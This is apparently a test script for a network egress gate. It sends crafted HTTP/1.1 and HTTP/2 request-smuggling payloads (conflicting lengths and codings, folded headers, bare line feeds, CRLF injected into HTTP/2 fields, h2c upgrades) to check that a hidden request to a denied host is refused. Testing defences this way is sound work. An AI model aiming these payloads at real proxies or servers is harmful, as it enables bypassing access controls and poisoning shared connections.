"""gate-smuggling: One request that two readers take for two, or for another.

Does: both lengths, two codings, folded fields, bare line feeds, HTTP/2 asked for or begun in plain text, a request behind a
refused one, the protocol's old versions. The nonce is in the hidden one alone. Must happen: refused; no canary hears of it.
"""

import errno
import json
import os
import socket
import ssl
import struct
import sys

ROUTE = "gate-smuggling"
NONCE, CASE, WORLD = sys.argv[1], sys.argv[2], json.loads(sys.argv[3])
TRIES = []


def tried(event, op, **facts):
    """One try and the kernel's answer; bytes become hex."""
    TRIES.append({"event": event, "op": op, "pid": os.getpid(), **facts})


def end(word="performed", reason="", **saw):
    """The one line: everything tried, and what came back."""
    facts = {"end": word, "reason": reason, "tries": TRIES, "saw": saw}
    print(json.dumps({"route": ROUTE, "case": CASE, **facts}, default=bytes.hex), flush=True)
    if WORLD.get("role") == "sibling":
        sys.stdin.read()
    os._exit(0)


def attempt(work, *arguments):
    """Errno of what the work raised; 0 when it went well."""
    try:
        work(*arguments)
    except OSError as error:
        return error.errno
    return 0


def inet(host, port, scope=0):
    """An address as the kernel is given it."""
    if ":" in host:
        packed = socket.inet_pton(socket.AF_INET6, host)
        return struct.pack("<H", socket.AF_INET6) + struct.pack(">HI", port, 0) + packed + struct.pack("<I", scope)
    return struct.pack("<H", socket.AF_INET) + struct.pack(">H", port) + socket.inet_aton(host) + bytes(8)


def patient(one, seconds=8):
    """Time limits the kernel keeps, so that calls stay plain blocking ones."""
    for option in (socket.SO_RCVTIMEO, socket.SO_SNDTIMEO):
        one.setsockopt(socket.SOL_SOCKET, option, struct.pack("ll", seconds, 0))
    return one


def listen_for(one, limit=65536):
    """What comes back until the other side closes, errs or is silent."""
    got = b""
    try:
        while len(got) < limit and (chunk := one.recv(65536)):
            got += chunk
    except OSError as error:
        return got, error.errno
    return got, 0


def talk(host, kind):
    """A socket of the address's family."""
    try:
        return socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, kind)
    except OSError as error:
        if error.errno == errno.EAFNOSUPPORT:
            end("inapplicable", "this kernel has no IPv6")
        raise


def tcp(host, port, data, scope=0):
    """Connect, send, listen: the errno and what came back."""
    with patient(talk(host, socket.SOCK_STREAM)) as one:
        where = (host, port, 0, scope) if ":" in host else (host, port)
        wrong = attempt(one.connect, where)
        tried("connect", "connect", addr=inet(host, port, scope), errno=wrong)
        if wrong:
            return wrong, b""
        if wrong := attempt(one.sendall, data):
            return wrong, b""
        return listen_for(one)[::-1]


def udp(host, port, data, seconds=1):
    """Send one datagram and listen a moment: the errno and what came back."""
    with patient(talk(host, socket.SOCK_DGRAM), seconds) as one:
        wrong = attempt(one.sendto, data, (host, port))
        tried("socket", "sendto", addr=inet(host, port), errno=wrong)
        if wrong:
            return wrong, b""
        try:
            return 0, one.recv(65536)
        except OSError as error:
            return error.errno, b""


def query(labels, kind=1, number=0x4243, count=1):
    """A DNS question; labels are bytes."""
    name = b"".join(bytes([len(label)]) + label for label in labels) + b"\0"
    return struct.pack(">HHHHHH", number, 0x0100, count, 0, 0, 0) + (name + struct.pack(">HH", kind, 1)) * max(count, 1)


def ask(server, data, over="udp"):
    """Put a question to a name server: errno, answer code (None without an answer), addresses given."""
    if over == "tcp":
        wrong, answer = tcp(server, 53, struct.pack(">H", len(data)) + data)
        answer = answer[2:]
    else:
        wrong, answer = udp(server, 53, data, 2)
    if len(answer) < 12:
        return wrong, None, []
    given = []
    count = struct.unpack(">H", answer[6:8])[0]
    at = len(data)
    for _ in range(count):
        if at + 12 > len(answer):
            break
        at += 2 if answer[at] & 0xC0 else answer.index(b"\0", at) - at + 1
        kind, _, _, size = struct.unpack(">HHIH", answer[at : at + 10])
        if kind in (1, 28):
            family = socket.AF_INET if kind == 1 else socket.AF_INET6
            given.append(socket.inet_ntop(family, answer[at + 10 : at + 10 + size]))
        at += 10 + size
    return wrong, answer[3] & 15, given


def look_up(name, server="198.51.100.53"):
    """The address the box's world gives a name, or None."""
    _, _, given = ask(server, query([part.encode() for part in name.split(".")]))
    return given[0] if given else None


def tls(address, name, port=443, alpn=("http/1.1",)):
    """A TLS connection that trusts whoever answers (the canary decides, not the client): the socket, or the errno."""
    one = patient(socket.socket(socket.AF_INET6 if ":" in address else socket.AF_INET))
    wrong = attempt(one.connect, (address, port))
    tried("connect", "connect", addr=inet(address, port), errno=wrong)
    if wrong:
        return wrong
    context = ssl._create_unverified_context()
    context.set_alpn_protocols(list(alpn))
    one.settimeout(8)
    try:
        return context.wrap_socket(one, server_hostname=name)
    except OSError as error:
        return error.errno or 104


def http(one, target, host, *more, method="GET", body=b""):
    """One request on a connection; what came back, the connection then being closed."""
    if isinstance(one, int):
        return b""
    lines = [f"{method} {target} HTTP/1.1", f"Host: {host}", "Connection: close", *more]
    if body:
        lines.append(f"Content-Length: {len(body)}")
    attempt(one.sendall, "\r\n".join(lines).encode() + b"\r\n\r\n" + body)
    return listen_for(one)[0]


def status(answer):
    """The status of an HTTP answer, 0 without one."""
    words = answer.split(None, 2)
    return int(words[1]) if len(words) > 1 and words[0].startswith(b"HTTP/") and words[1].isdigit() else 0


def rule(answer):
    """What the gate says of its own decision, in the header made for it."""
    found = [line for line in answer.split(b"\r\n") if line.lower().startswith(b"x-caisson-decision:")]
    return found[0].partition(b":")[2].strip().decode("ascii", "replace")[:200] if found else ""


def here(name):
    """The address the box's world gives a name that it must give one; without it nothing can be tried."""
    address = look_up(name)
    if address is None:
        end("not-performed", f"{name} has no address here")
    return address


def frame(kind, flags, stream, body):
    """One HTTP/2 frame."""
    return len(body).to_bytes(3, "big") + bytes([kind, flags]) + struct.pack(">I", stream) + body


def fields(*pairs):
    """A header block: every field literal, none indexed."""
    return b"".join(b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value for name, value in pairs)


PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def h2_get(stream, authority, path, *more):
    """The frame of a GET."""
    usual = ((b":method", b"GET"), (b":scheme", b"https"), (b":authority", authority), (b":path", path))
    return frame(1, 5, stream, fields(*usual, *more))


host = "web.allowed.test"
if CASE.startswith("h2-"):  # HTTP/2 to the gate, which may well speak HTTP/1 to the outside
    one = tls(
        here("drop.allowed.test" if CASE in ("h2-length", "h2-coding") else host),
        "drop.allowed.test" if CASE in ("h2-length", "h2-coding") else host,
        alpn=("h2",),
    )
    if isinstance(one, int) or one.selected_alpn_protocol() != "h2":
        end("inapplicable", "the gate speaks no HTTP/2 to the box")
    inner = f"GET /{NONCE} HTTP/1.1\r\nHost: {host}\r\n\r\n".encode()
    post = ((b":method", b"POST"), (b":scheme", b"https"), (b":authority", b"drop.allowed.test"), (b":path", b"/x"))
    said = {
        "h2-value": lambda: h2_get(1, host.encode(), b"/x", (b"x", b"a\r\n\r\n" + inner)),
        "h2-name": lambda: h2_get(
            1, host.encode(), b"/x", (b"x: a\r\nhost: " + NONCE.encode() + b".denied.test\r\ny", b"b")
        ),
        "h2-path": lambda: h2_get(
            1, host.encode(), b"/x HTTP/1.1\r\nHost: web.allowed.test\r\n\r\nGET /" + NONCE.encode()
        ),
        "h2-authority": lambda: h2_get(1, host.encode() + b"\r\nX: " + NONCE.encode(), b"/x"),
        "h2-length": lambda: frame(1, 4, 1, fields(*post, (b"content-length", b"0"))) + frame(0, 1, 1, inner),
        "h2-coding": lambda: (
            frame(1, 4, 1, fields(*post, (b"transfer-encoding", b"chunked"))) + frame(0, 1, 1, b"0\r\n\r\n" + inner)
        ),
    }[CASE]()
    one.sendall(PREFACE + frame(4, 0, 0, b"") + said)
    got, _ = listen_for(one)
    end(answer=0, got=got[:200])
hidden = f"GET /{NONCE} HTTP/1.1\r\nHost: {host}\r\n\r\n"
lengths = f"POST /x HTTP/1.1\r\nHost: drop.allowed.test\r\n"
said = {
    "both-lengths": lengths
    + f"Content-Length: {len(hidden) + 5}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    + hidden,
    "two-lengths": lengths + f"Content-Length: 0\r\nContent-Length: {len(hidden)}\r\n\r\n" + hidden,
    "two-codings": lengths + "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity\r\n\r\n0\r\n\r\n" + hidden,
    "odd-coding": lengths + "Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + hidden,
    "spaced-coding": lengths
    + f"Transfer-Encoding : chunked\r\nContent-Length: {len(hidden) + 5}\r\n\r\n0\r\n\r\n"
    + hidden,
    "folded": f"GET /x HTTP/1.1\r\nHost: {host}\r\nX: a\r\n Host: {NONCE}.denied.test\r\n\r\n",
    "bare-lf": f"GET /x HTTP/1.1\nHost: {host}\n\n" + hidden.replace("\r\n", "\n"),
    "bare-cr": f"GET /x HTTP/1.1\r\nHost: {host}\rX: {NONCE}\r\n\r\n",
    "two-hosts": f"GET /{NONCE} HTTP/1.1\r\nHost: {host}\r\nHost: web.denied.test\r\n\r\n",
    "chunk-extension": lengths + "Transfer-Encoding: chunked\r\n\r\n0;\n" + hidden + "\r\n\r\n",
    "h2c-upgrade": f"GET /{NONCE} HTTP/1.1\r\nHost: {host}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAAQAAP__\r\n\r\n",
    "pipelined": f"GET /x HTTP/1.1\r\nHost: web.denied.test\r\n\r\n" + hidden,
    "no-version": f"GET /{NONCE}\r\n\r\n",
    "no-host": f"GET /{NONCE} HTTP/1.0\r\n\r\n",
    "trailers": lengths + f"Transfer-Encoding: chunked\r\nTrailer: X\r\n\r\n0\r\nHost: {NONCE}.denied.test\r\n\r\n",
    "prior-knowledge": "",
}[CASE].encode()
if CASE == "prior-knowledge":
    said = PREFACE + frame(4, 0, 0, b"") + h2_get(1, host.encode(), b"/" + NONCE.encode())
name = "drop.allowed.test" if b"drop.allowed.test" in said else host
_, got = tcp(here(name), 80, said)
end(status=status(got), decision=rule(got), got=got[:300])
